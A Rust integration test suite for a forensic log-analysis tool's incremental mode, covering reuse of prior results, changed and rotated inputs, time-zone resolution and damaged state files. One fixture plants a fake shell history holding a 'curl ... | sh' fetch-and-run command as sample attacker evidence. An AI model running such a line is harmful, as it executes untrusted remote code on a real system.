//! `coldcase analyze --incremental`: what it takes over from the case that is there, and that the result is that of a fresh
//! run, whatever changed in between.

#![allow(
    clippy::indexing_slicing,
    clippy::cast_possible_truncation,
    reason = "a test may fail loudly, and its numbers are small"
)]

#[path = "incremental/bundles.rs"]
mod bundles;
#[path = "incremental/runs.rs"]
mod runs;

use std::fs;
use std::os::unix::fs::MetadataExt as _;
use std::path::Path;

use bundles::{audit_logs, auth_log, incident, moments, wtmp};
use runs::{check, check_with, edit_state, set, told, write};
use tempfile::TempDir;

/// A bundle with solved zones: year-less logs of two hosts, of which one shares its logins with wtmp.
fn unzoned(at: &Path) {
    let logins = moments(60);
    write(&at.join("web-1/auth.log"), auth_log(8, &logins));
    write(&at.join("web-1/wtmp"), wtmp(&logins));
    write(&at.join("web-2/auth.log"), auth_log(0, &logins[..9]));
}

/// One host of whom all is told, with an audit log in four files, at whose edges events are split. Its case has two parts.
fn small(folder: &Path) -> usize {
    let bundle = folder.join("bundle");
    let logins = moments(30);
    write(&bundle.join("case.toml"), CASE);
    for (name, text) in audit_logs(&logins) {
        write(&bundle.join("web-1/audit").join(name), text);
    }
    write(&bundle.join("web-1/wtmp"), wtmp(&logins));
    told(folder);
    write(&bundle.join("web-1/auth.log"), auth_log(8, &logins));
    let told = told(folder);
    assert_eq!(
        (told.taken, told.count("new"), told.all),
        (6, 1, 7),
        "{}",
        told.line
    );
    told.all
}

const CASE: &str = "timezone = \"Asia/Shanghai\"\ncollected_at = \"2023-06-01T00:00:00Z\"\n";

#[test]
fn nothing_changed_is_all_taken_over() {
    // With all correlators, and once more over what was taken over before.
    for name in ["ssh-window", "docker-miner", "dns-origin"] {
        let folder = TempDir::new().expect("a folder");
        let bundle = folder.path().join("bundle");
        let inputs = incident(name, &bundle);
        let first = told(folder.path());
        assert!(
            first.line.contains("there is no case yet"),
            "{}",
            first.line
        );
        for more in [&["--only", "ssh-auth"][..], &[]] {
            let told = check_with(folder.path(), more);
            assert_eq!(
                (told.taken, told.all),
                (inputs, inputs),
                "{name}: {}",
                told.line
            );
        }
    }
}

#[test]
fn parts_of_nothing_else_are_linked_and_the_old_case_goes() {
    let folder = TempDir::new().expect("a folder");
    incident("ssh-window", &folder.path().join("bundle"));
    told(folder.path());
    let part = folder.path().join("case/timeline/part-00000.parquet");
    let before = fs::metadata(&part).expect("a part").ino();
    told(folder.path());
    let after = fs::metadata(&part).expect("a part");
    assert_eq!((after.ino(), after.nlink()), (before, 1));
    let names = fs::read_dir(folder.path()).expect("a folder").count();
    assert_eq!(names, 2, "the bundle and the case");
}

#[test]
fn what_is_added_changed_removed_or_renamed_is_read() {
    let folder = TempDir::new().expect("a folder");
    let bundle = folder.path().join("bundle");
    let inputs = small(folder.path());
    // Added.
    let history = "#1680000000\ncurl http://192.0.2.7/x | sh\n#1680000100\nid\n";
    write(&bundle.join("web-1/root/.bash_history"), history);
    let told = check(folder.path());
    assert_eq!(
        (told.taken, told.count("new")),
        (inputs, 1),
        "{}",
        told.line
    );
    // A near miss: as many bytes, one of them another.
    let other = history.replace("192.0.2.7", "192.0.2.8");
    write(&bundle.join("web-1/root/.bash_history"), other);
    let told = check(folder.path());
    assert_eq!((told.taken, told.count("changed")), (inputs, 1));
    // Longer.
    let longer = format!("{history}#1680000200\nwhoami\n");
    write(&bundle.join("web-1/root/.bash_history"), longer);
    let told = check(folder.path());
    assert_eq!((told.taken, told.count("changed")), (inputs, 1));
    // Renamed: rows name their file.
    let (from, to) = ("web-1/root/.bash_history", "web-1/root/old.bash_history");
    fs::rename(bundle.join(from), bundle.join(to)).expect("renames");
    let told = check(folder.path());
    assert_eq!(
        (told.taken, told.count("new"), told.all),
        (inputs, 1, inputs + 1)
    );
    // Removed.
    fs::remove_file(bundle.join(to)).expect("removes");
    let told = check(folder.path());
    assert_eq!((told.taken, told.all), (inputs, inputs));
}

#[test]
fn a_series_that_is_joined_is_read_as_a_whole() {
    let folder = TempDir::new().expect("a folder");
    let bundle = folder.path().join("bundle");
    let inputs = small(folder.path());
    let audit = bundle.join("web-1/audit");
    let oldest = audit.join("audit.log.3");
    let kept = fs::read(&oldest).expect("a log");
    fs::remove_file(&oldest).expect("removes");
    told(folder.path());
    // One comes: events may be split between it and its neighbour.
    fs::write(&oldest, &kept).expect("writes");
    let told = check(folder.path());
    assert_eq!(
        (told.count("new"), told.count("in a series that changed")),
        (1, 3)
    );
    assert_eq!(told.taken, inputs - 4, "{}", told.line);
    // One changes: its last record breaks off.
    fs::write(&oldest, &kept[..kept.len() - 40]).expect("writes");
    let told = check(folder.path());
    assert_eq!(
        (
            told.count("changed"),
            told.count("in a series that changed")
        ),
        (1, 3)
    );
    // One goes.
    fs::remove_file(&oldest).expect("removes");
    let told = check(folder.path());
    assert_eq!(told.count("in a series that changed"), 3, "{}", told.line);
    assert_eq!(told.taken, inputs - 4);
}

#[test]
fn rotated_captures_are_read_as_a_whole_and_others_are_taken_over() {
    let folder = TempDir::new().expect("a folder");
    let bundle = folder.path().join("bundle");
    let inputs = incident("dns-origin", &bundle);
    let mut captures = bundles::captures(&bundle);
    assert!(captures.len() > 1, "a ring");
    let last = captures.pop().expect("the newest");
    let aside = folder.path().join("aside");
    fs::rename(&last, &aside).expect("renames");
    told(folder.path());
    fs::rename(&aside, &last).expect("renames");
    let told = check(folder.path());
    let others = captures.len();
    assert_eq!(
        (told.count("new"), told.count("in a series that changed")),
        (1, others)
    );
    assert_eq!(told.taken, inputs - 1 - others);
}

#[test]
fn solved_clocks_come_out_the_same() {
    let folder = TempDir::new().expect("a folder");
    let bundle = folder.path().join("bundle");
    unzoned(&bundle);
    told(folder.path());
    let told_same = check(folder.path());
    assert_eq!(
        (told_same.taken, told_same.all),
        (3, 3),
        "{}",
        told_same.line
    );
    assert!(told_same.line.contains("read once, to solve their clocks"));
    // What gives the zone of one host goes: its log is read as UTC again.
    let moved = folder.path().join("wtmp");
    fs::rename(bundle.join("web-1/wtmp"), &moved).expect("renames");
    let told = check(folder.path());
    assert_eq!(told.all, 2);
    assert!(told.count("with another clock") > 0, "{}", told.line);
    // It comes back, and with it the zone.
    fs::rename(&moved, bundle.join("web-1/wtmp")).expect("renames");
    let told = check(folder.path());
    assert_eq!((told.all, told.count("new")), (3, 1));
    // A second log says more of the same clock.
    write(
        &bundle.join("web-1/auth.log.1"),
        auth_log(8, &moments(90)[60..]),
    );
    check(folder.path());
    // The zone is told after all, by the bundle itself.
    write(&bundle.join("case.toml"), CASE);
    check(folder.path());
}

#[test]
fn a_host_that_is_named_otherwise_is_read_anew() {
    let folder = TempDir::new().expect("a folder");
    let bundle = folder.path().join("bundle");
    unzoned(&bundle);
    told(folder.path());
    let case = "[[host]]\nname = \"web-1\"\npath = \"web-1\"\n[[host]]\nname = \"front\"\npath = \"web-2\"\n";
    write(&bundle.join("case.toml"), case);
    let told = check(folder.path());
    assert_eq!((told.count("of another host"), told.count("new")), (1, 1));
    // Facts of a host that come later: its name, and where its clock stands.
    write(&bundle.join("web-2/hostname"), "front-2\n");
    let zone = "               Local time: Thu 2023-06-01 08:00:00 CST\n           Universal time: Thu 2023-06-01 00:00:00 UTC\n                Time zone: Asia/Shanghai (CST, +0800)\n";
    write(&bundle.join("web-2/timedatectl.txt"), zone);
    check(folder.path());
}

#[test]
fn options_that_change_reading_are_seen() {
    let folder = TempDir::new().expect("a folder");
    let bundle = folder.path().join("bundle");
    unzoned(&bundle);
    for (name, text) in audit_logs(&moments(9)) {
        write(&bundle.join("web-1/audit").join(name), text);
    }
    told(folder.path());
    let told_zone = check_with(
        folder.path(),
        &["--only", "ssh-auth", "--timezone", "Europe/Berlin"],
    );
    // What records its times in UTC is taken over all the same.
    let line = &told_zone.line;
    assert_eq!(
        (told_zone.count("with another clock"), told_zone.taken),
        (3, 4),
        "{line}"
    );
    let told_at = check_with(
        folder.path(),
        &[
            "--only",
            "ssh-auth",
            "--collected-at",
            "2024-01-01T00:00:00Z",
        ],
    );
    assert!(told_at.count("with another clock") >= 2, "{}", told_at.line);
    let told_only = check_with(folder.path(), &["--only", "utmp,ssh-auth"]);
    assert_eq!(
        told_only.count("of another format"),
        6,
        "{}",
        told_only.line
    );
    check(folder.path());
    let told_limits = check_with(folder.path(), &["--only", "ssh-auth", "--max-ratio", "7"]);
    assert!(
        told_limits.line.contains("other limits"),
        "{}",
        told_limits.line
    );
}

#[test]
fn members_of_an_archive_are_inputs_too() {
    let folder = TempDir::new().expect("a folder");
    let bundle = folder.path().join("bundle");
    let inputs = incident("docker-miner", &folder.path().join("inside"));
    let archive = bundles::packed(&folder.path().join("inside"));
    write(&bundle.join("one.tar.gz"), &archive);
    // A folder of nothing but one archive would be that archive.
    write(&bundle.join("first.txt"), "nothing to see\n");
    told(folder.path());
    let told_same = check(folder.path());
    assert!(told_same.all >= inputs, "{}", told_same.line);
    assert_eq!(told_same.taken, told_same.all, "{}", told_same.line);
    write(&bundle.join("note.txt"), "nothing to see\n");
    let told = check(folder.path());
    assert_eq!((told.count("new"), told.taken), (1, told_same.all));
}

#[test]
fn a_damaged_state_is_told_and_everything_is_read() {
    let folder = TempDir::new().expect("a folder");
    let inputs = incident("docker-miner", &folder.path().join("bundle"));
    told(folder.path());
    let state = folder.path().join("case/inputs.state.json.gz");
    let whole = fs::read(&state).expect("a state");
    let cut = whole[..whole.len() / 2].to_vec();
    let mut flipped = whole.clone();
    let middle = flipped.len() / 2;
    flipped[middle] ^= 0x10;
    for damage in [cut, flipped, b"nothing of ours".to_vec(), Vec::new()] {
        fs::write(&state, damage).expect("writes");
        let told = check(folder.path());
        assert_eq!((told.taken, told.all), (0, inputs));
        assert!(
            told.errors.contains("inputs.state.json.gz: "),
            "{}",
            told.errors
        );
        assert!(told.errors.contains("all inputs are read anew"));
    }
    // Another layout.
    edit_state(folder.path(), |state| {
        state["schema"] = "coldcase.inputs-state/9".into()
    });
    let told = check(folder.path());
    assert!(told.errors.contains("inputs-state/9"), "{}", told.errors);
    // A case of a run without the option.
    fs::remove_file(&state).expect("removes");
    let told = check(folder.path());
    assert!(told.line.contains("made without --incremental"));
    assert_eq!((told.taken, told.errors.as_str()), (0, ""));
}

#[test]
fn damaged_parts_are_told_and_their_inputs_are_read() {
    let folder = TempDir::new().expect("a folder");
    let inputs = small(folder.path());
    let timeline = folder.path().join("case/timeline");
    type Damage = (&'static str, fn(&Path));
    let damages: [Damage; 4] = [
        ("is not as it was written", |part| {
            let mut bytes = fs::read(part).expect("a part");
            let middle = bytes.len() / 2;
            bytes[middle] ^= 1;
            fs::write(part, bytes).expect("writes");
        }),
        ("is not as it was written", |part| {
            let bytes = fs::read(part).expect("a part");
            fs::write(part, &bytes[..bytes.len() / 2]).expect("writes");
        }),
        ("No such file", |part| {
            fs::remove_file(part).expect("removes")
        }),
        // A part of another case is whole and yet not this one's.
        ("is not as it was written", |part| {
            fs::copy(part.with_file_name("part-00001.parquet"), part).expect("copies");
        }),
    ];
    for (said, damage) in damages {
        damage(&timeline.join("part-00000.parquet"));
        let told = check(folder.path());
        assert!(
            told.errors.contains("part-00000.parquet: "),
            "{}",
            told.errors
        );
        assert!(told.errors.contains(said), "{}", told.errors);
        assert!(told.count("with damaged rows") > 0, "{}", told.line);
        assert_eq!(told.all, inputs);
    }
}

#[test]
fn what_another_program_read_is_read_anew() {
    let folder = TempDir::new().expect("a folder");
    let inputs = small(folder.path());
    // One format was changed: only its inputs.
    let of_format = edit_state(folder.path(), |state| {
        set(state, "fingerprint", "00", |input| {
            input["format"] == "auditd"
        })
    });
    assert_eq!(of_format, 4);
    let told_one = check(folder.path());
    assert_eq!(told_one.count("read by another version"), of_format);
    assert_eq!(told_one.taken, inputs - of_format);
    // All were.
    edit_state(folder.path(), |state| {
        set(state, "fingerprint", "00", |_| true)
    });
    let told_all = check(folder.path());
    assert_eq!(told_all.count("read by another version"), inputs);
}

#[test]
fn a_state_that_lies_gives_no_wrong_rows() {
    let folder = TempDir::new().expect("a folder");
    let inputs = small(folder.path());
    let of_log = |input: &serde_json::Value| input["path"] == "web-1/auth.log";
    // Fewer rows than it says; another hash; a zone that nobody knows.
    let lies = [
        ("events", "5"),
        ("sha256", "\"00\""),
        (
            "clock",
            "{\"timezone\": \"Mars/Base\", \"rests_on\": \"bundle\", \"offset_ns\": 0}",
        ),
    ];
    for (name, value) in lies {
        let value: serde_json::Value = serde_json::from_str(value).expect("JSON");
        let changed = edit_state(folder.path(), |state| {
            set(state, name, value.clone(), of_log)
        });
        assert_eq!(changed, 1);
        let told = check(folder.path());
        assert_eq!(told.taken, inputs - 1, "{name}: {}", told.line);
    }
    // Names of parts that lead elsewhere are not followed.
    edit_state(folder.path(), |state| {
        state["parts"][0]["name"] = "../case.json".into()
    });
    let told = check(folder.path());
    assert!(
        told.errors.contains("is no name of a part"),
        "{}",
        told.errors
    );
}

#[test]
fn without_the_option_nothing_is_kept_or_taken() {
    let folder = TempDir::new().expect("a folder");
    incident("docker-miner", &folder.path().join("bundle"));
    told(folder.path());
    assert!(folder.path().join("case/inputs.state.json.gz").exists());
    let output = runs::coldcase(folder.path(), &["analyze", "bundle", "-o", "case"]);
    assert!(!output.contains("taken over"), "{output}");
    assert!(!folder.path().join("case/inputs.state.json.gz").exists());
}
